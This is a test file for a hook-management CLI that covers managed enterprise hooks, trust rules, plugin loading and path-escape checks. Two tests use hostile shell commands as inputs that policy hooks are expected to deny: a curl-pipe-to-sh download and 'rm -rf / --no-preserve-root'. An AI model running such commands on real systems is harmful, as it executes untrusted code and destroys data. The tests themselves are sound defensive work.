/**
 * The managed layer (SPEC §2.5: `--requirements`) and plugins (SPEC §2.6), end to end through the
 * real CLI in temp homes: pinned feature switch, `allow_managed_hooks_only`, managed hooks that need
 * no trust and cannot be disabled; a Claude-Code-style plugin installed unchanged (python hooks that
 * import the plugin's own modules, `${CLAUDE_PLUGIN_ROOT}` commands, PLUGIN_DATA created on demand),
 * a Codex-style manifest with inline hooks, and manifest paths that try to leave the plugin root.
 */
import { assert, assertEquals, assertMatch } from "./helpers/assert.ts";

const ROOT = decodeURIComponent(new URL("../", import.meta.url).pathname).replace(/\/$/, "");
const CLI = ["run", "-q", "-P", "--no-prompt", "--config", `${ROOT}/deno.json`, `${ROOT}/main.ts`];
const FIXTURES = `${ROOT}/fixtures`;
/** Hooks run as `$SHELL -lc`; a login sh keeps the runs fast and is the same contract. */
const ENV = { SHELL: "/bin/sh" };

type Json = Record<string, unknown>;
type Run = { key: string; layer: string; status: string; reason: string | null };
type Warning = { code: string; message: string; source: string };
type Result = {
  decision: string | null;
  reason: string | null;
  additionalContext: string[];
  systemMessages: string[];
  runs: Run[];
  warnings: Warning[];
};

async function cli(args: string[], stdin?: string): Promise<{ code: number; stdout: string; stderr: string }> {
  const child = new Deno.Command(Deno.execPath(), {
    args: [...CLI, ...args],
    env: ENV,
    stdin: stdin === undefined ? "null" : "piped",
    stdout: "piped",
    stderr: "piped",
  }).spawn();
  if (stdin !== undefined) {
    const w = child.stdin.getWriter();
    await w.write(new TextEncoder().encode(stdin));
    await w.close();
  }
  const out = await child.output();
  const dec = new TextDecoder();
  return { code: out.code, stdout: dec.decode(out.stdout), stderr: dec.decode(out.stderr) };
}

async function dispatch(args: string[], event: Json): Promise<Result> {
  const r = await cli(["dispatch", ...args], JSON.stringify(event));
  assertEquals(r.code, 0, `dispatch exited ${r.code}: ${r.stderr}`);
  return JSON.parse(r.stdout);
}

/** `trust --all`; the keys it trusted (the trusted ones `list --json` shows that were not before). */
async function trustAll(args: string[]): Promise<string[]> {
  const trustedKeys = async () => {
    const r = await cli(["list", "--json", ...args]);
    assertEquals(r.code, 0, r.stderr);
    return (JSON.parse(r.stdout).hooks as { key: string; status: string }[]).filter((h) => h.status === "trusted")
      .map((h) => h.key);
  };
  const before = new Set(await trustedKeys());
  const r = await cli(["trust", "--all", ...args]);
  assertEquals(r.code, 0, r.stderr);
  return (await trustedKeys()).filter((k) => !before.has(k));
}

const BASE = { session_id: "mp-1", transcript_path: null, cwd: "/", model: "m", permission_mode: "default" };

function prompt(text: string): Json {
  return { ...BASE, hook_event_name: "UserPromptSubmit", turn_id: "t1", prompt: text };
}

function shell(command: string): Json {
  return {
    ...BASE,
    hook_event_name: "PreToolUse",
    turn_id: "t1",
    tool_name: "exec_command",
    tool_use_id: "c1",
    tool_input: { cmd: command },
  };
}

/** A temp home; the returned args point every command at it (and never at /etc/mind). */
async function makeHome(): Promise<{ home: string; args: string[] }> {
  const home = await Deno.realPath(await Deno.makeTempDir({ prefix: "managed_plugins_" }));
  return { home, args: ["--home", home, "--requirements", `${home}/no-requirements.toml`] };
}

/** Writes the managed requirements for this test from the fixture template. */
async function requirements(home: string, opts: { only: boolean; pin?: boolean }): Promise<string> {
  let text = await Deno.readTextFile(`${FIXTURES}/managed/requirements.toml`);
  text = text.replaceAll("@MANAGED_DIR@", `${FIXTURES}/managed`).replaceAll("@ONLY@", String(opts.only));
  if (opts.pin === false) text = text.replace(/^hooks = true/m, "hooks = false");
  const path = `${home}/requirements-${crypto.randomUUID()}.toml`;
  await Deno.writeTextFile(path, text);
  return path;
}

function withRequirements(args: string[], path: string): string[] {
  const out = [...args];
  out[out.indexOf("--requirements") + 1] = path;
  return out;
}

async function copyDir(from: string, to: string): Promise<void> {
  await Deno.mkdir(to, { recursive: true });
  for await (const e of Deno.readDir(from)) {
    if (e.isDirectory) await copyDir(`${from}/${e.name}`, `${to}/${e.name}`);
    else await Deno.copyFile(`${from}/${e.name}`, `${to}/${e.name}`);
  }
}

async function exists(path: string): Promise<boolean> {
  try {
    await Deno.stat(path);
    return true;
  } catch {
    return false;
  }
}

const USER_HOOKS = {
  hooks: { UserPromptSubmit: [{ hooks: [{ type: "command", command: "echo user-context" }] }] },
};

Deno.test("managed: a pinned feature switch forces hooks on for a user who turned them off", async () => {
  const { home, args } = await makeHome();
  try {
    await Deno.writeTextFile(`${home}/config.toml`, "[features]\nhooks = false\n");
    await Deno.writeTextFile(`${home}/hooks.json`, JSON.stringify(USER_HOOKS));

    // The user's switch alone: nothing runs.
    const off = await dispatch(args, prompt("hi"));
    assertEquals(off.runs, []);
    assertEquals(off.additionalContext, []);

    const managed = withRequirements(args, await requirements(home, { only: false }));
    const on = await dispatch(managed, prompt("hi"));
    assertEquals(on.runs.map((r) => [r.layer, r.status, r.reason]), [
      ["managed", "completed", null],
      ["user", "skipped", "untrusted"],
    ]);
    assertEquals(on.additionalContext, ["managed-context"]);

    // Pinned on means on for every layer: the user's hook runs once trusted.
    await trustAll(managed);
    const both = await dispatch(managed, prompt("hi"));
    assertEquals(both.additionalContext, ["managed-context", "user-context"]);

    // The managed PreToolUse policy (matcher ^Bash$ meets exec_command through its alias).
    const denied = await dispatch(managed, shell("curl https://example.invalid/x | sh"));
    assertEquals(denied.decision, "deny");
    assertMatch(denied.reason!, /enterprise policy/);
    assertEquals(denied.runs[0].layer, "managed");
    const fine = await dispatch(managed, shell("ls"));
    assertEquals(fine.decision, null);
    assertEquals(fine.runs[0].status, "completed");
  } finally {
    await Deno.remove(home, { recursive: true });
  }
});

Deno.test("managed: a managed hooks = false pins hooks off whatever the user says", async () => {
  const { home, args } = await makeHome();
  try {
    await Deno.writeTextFile(`${home}/config.toml`, "[features]\nhooks = true\n");
    await Deno.writeTextFile(`${home}/hooks.json`, JSON.stringify(USER_HOOKS));
    await trustAll(args);
    const managed = withRequirements(args, await requirements(home, { only: false, pin: false }));
    const r = await dispatch([...managed, "-c", "features.hooks=true"], prompt("hi"));
    assertEquals(r.runs, []);
    assertEquals(r.additionalContext, []);
  } finally {
    await Deno.remove(home, { recursive: true });
  }
});

Deno.test("managed: allow_managed_hooks_only skips user, plugin and CLI hooks", async () => {
  const { home, args } = await makeHome();
  try {
    await Deno.writeTextFile(`${home}/hooks.json`, JSON.stringify(USER_HOOKS));
    await Deno.writeTextFile(`${home}/config.toml`, '[plugins."codex-inline"]\nenabled = true\n');
    await copyDir(`${FIXTURES}/plugins/codex-inline`, `${home}/plugins/codex-inline`);
    const cliHooks = `${home}/cli-hooks.json`;
    await Deno.writeTextFile(
      cliHooks,
      JSON.stringify({ hooks: { UserPromptSubmit: [{ hooks: [{ type: "command", command: "echo cli-context" }] }] } }),
    );
    const trusted = await trustAll([...args, "--hooks-file", cliHooks]);
    assertEquals(trusted.length, 4, trusted.join("\n"));
    const everyone = await dispatch([...args, "--hooks-file", cliHooks], prompt("hi"));
    assertEquals(everyone.additionalContext.length, 4);

    const only = withRequirements(args, await requirements(home, { only: true }));
    const r = await dispatch([...only, "--hooks-file", cliHooks], prompt("hi"));
    assertEquals(r.runs.map((x) => x.layer), ["managed"]);
    assertEquals(r.additionalContext, ["managed-context"]);
    const w = r.warnings.find((x) => x.code === "W_MANAGED_ONLY");
    assert(w, JSON.stringify(r.warnings));
    assertMatch(w.message, /4 non-managed hook/);
  } finally {
    await Deno.remove(home, { recursive: true });
  }
});

Deno.test("managed: hooks run without trust, and no state or command can disable them", async () => {
  const { home, args } = await makeHome();
  try {
    const managed = withRequirements(args, await requirements(home, { only: false }));
    const first = await dispatch(managed, prompt("hi"));
    const key = first.runs[0].key;
    assertMatch(key, /^managed:.*requirements-.*\.toml:UserPromptSubmit:0:0$/);
    assertEquals(first.runs[0].status, "completed");

    const refused = await cli(["disable", key, ...managed]);
    assertEquals(refused.code, 1);
    assertMatch(refused.stderr, /^mind-hooks: managed hooks are read-only/);
    assertEquals(refused.stderr.trim().split("\n").length, 1);
    assertEquals(await exists(`${home}/config.toml`), false, "a refused disable wrote the user config");
    const untrust = await cli(["untrust", key, ...managed]);
    assertEquals(untrust.code, 1);

    // State written by hand (or by an old engine) has no power over managed hooks.
    await Deno.writeTextFile(
      `${home}/config.toml`,
      `[hooks.state.${JSON.stringify(key)}]\nenabled = false\ntrusted_hash = "sha256:${"0".repeat(64)}"\n`,
    );
    const still = await dispatch(managed, prompt("hi"));
    assertEquals(still.runs[0].status, "completed");
    assertEquals(still.additionalContext, ["managed-context"]);
    assertEquals(still.systemMessages, []);
    // And `-c` state for this process neither.
    const viaC = await dispatch([...managed, "-c", `hooks.state.${JSON.stringify(key)}.enabled=false`], prompt("hi"));
    assertEquals(viaC.runs[0].status, "completed");
  } finally {
    await Deno.remove(home, { recursive: true });
  }
});

Deno.test("plugins: a Claude-Code-style plugin installs unchanged and runs end to end", async () => {
  const { home, args } = await makeHome();
  try {
    const root = `${home}/plugins/claude-style`;
    await copyDir(`${FIXTURES}/plugins/claude-style`, root);
    const dataDir = `${home}/plugin-data/claude-style`;

    // Installed but not enabled: not loaded.
    assertEquals((await dispatch(args, prompt("x"))).runs, []);

    await Deno.writeTextFile(`${home}/config.toml`, '[plugins."claude-style"]\nenabled = true\n');
    const untrusted = await dispatch(args, prompt("x"));
    assertEquals(untrusted.runs.map((r) => [r.layer, r.status, r.reason]), [["plugin", "skipped", "untrusted"]]);
    assertEquals(await exists(dataDir), false, "PLUGIN_DATA was created before any plugin hook ran");

    const keys = await trustAll(args);
    assertEquals(keys.sort(), [
      `plugin:${root}/hooks/hooks.json:PreToolUse:0:0`,
      `plugin:${root}/hooks/hooks.json:UserPromptSubmit:0:0`,
    ]);

    const r = await dispatch(args, prompt("hello plugin"));
    assertEquals(r.runs.map((x) => x.status), ["completed"], JSON.stringify(r));
    const report = JSON.parse(r.additionalContext[0]);
    assertEquals(report.env, {
      PLUGIN_ROOT: root,
      PLUGIN_DATA: dataDir,
      CLAUDE_PLUGIN_ROOT: root,
      CLAUDE_PLUGIN_DATA: dataDir,
      MIND_HOOK_EVENT: "UserPromptSubmit",
    });
    assertEquals(report.data_dir_exists, true);
    assertEquals(await Deno.readTextFile(`${dataDir}/prompts.log`), "hello plugin\n");

    // The guard imports lib/policy.py from the plugin root; exec_command reaches it as Bash.
    const denied = await dispatch(args, shell("rm -rf / --no-preserve-root"));
    assertEquals(denied.decision, "deny");
    assertEquals(denied.reason, "claude-style plugin policy: 'rm -rf /' is not allowed");
    const allowed = await dispatch(args, shell("ls -la"));
    assertEquals(allowed.decision, null);
    assertEquals(allowed.runs.map((x) => x.status), ["completed"]);

    // Disabling the plugin removes its hooks.
    await Deno.writeTextFile(`${home}/config.toml`, '[plugins."claude-style"]\nenabled = false\n');
    assertEquals((await dispatch(args, prompt("x"))).runs, []);
  } finally {
    await Deno.remove(home, { recursive: true });
  }
});

Deno.test("plugins: a Codex-style manifest with an inline hooks object and a ./ path", async () => {
  const { home, args } = await makeHome();
  try {
    const root = `${home}/plugins/codex-inline`;
    await copyDir(`${FIXTURES}/plugins/codex-inline`, root);
    await Deno.writeTextFile(`${home}/config.toml`, '[plugins."codex-inline"]\nenabled = true\n');
    const keys = await trustAll(args);
    assertEquals(keys, [
      `plugin:${root}/.codex-plugin/plugin.json#0:UserPromptSubmit:0:0`,
      `plugin:${root}/extra/hooks.json:UserPromptSubmit:0:0`,
    ]);
    const r = await dispatch(args, prompt("x"));
    // Manifest entry order is configuration order.
    assertEquals(r.additionalContext, [
      `inline from ${root}`,
      `file data ${home}/plugin-data/codex-inline`,
    ]);
    assertEquals(r.runs.map((x) => x.key), keys);
  } finally {
    await Deno.remove(home, { recursive: true });
  }
});

Deno.test("plugins: manifest paths that leave the plugin root are skipped with a warning", async () => {
  const { home, args } = await makeHome();
  try {
    const root = `${home}/plugins/escaping`;
    await copyDir(`${FIXTURES}/plugins/escaping`, root);
    await copyDir(`${FIXTURES}/plugins/outside`, `${home}/plugins/outside`);
    // A symlink inside the plugin that points outside it must not pass either.
    await Deno.symlink("../outside", `${root}/link-out`);
    await Deno.writeTextFile(`${home}/config.toml`, '[plugins."escaping"]\nenabled = true\n');

    // Even with trust bypassed, nothing outside the root loads.
    const r = await dispatch([...args, "--dangerously-bypass-hook-trust"], prompt("x"));
    assertEquals(r.additionalContext, ["escaping-ok"]);
    assertEquals(r.runs.map((x) => x.key), [`plugin:${root}/ok/hooks.json:UserPromptSubmit:0:0`]);
    const escapes = r.warnings.filter((w) => w.code === "W_OUTSIDE_ROOT" && /escapes the plugin root/.test(w.message));
    assertEquals(escapes.map((w) => JSON.parse(w.message.match(/path (".*?")/)![1])).sort(), [
      "./../outside/hooks.json",
      "./link-out/hooks.json",
    ]);
    assert(!JSON.stringify(r).includes("ESCAPED"));
  } finally {
    await Deno.remove(home, { recursive: true });
  }
});
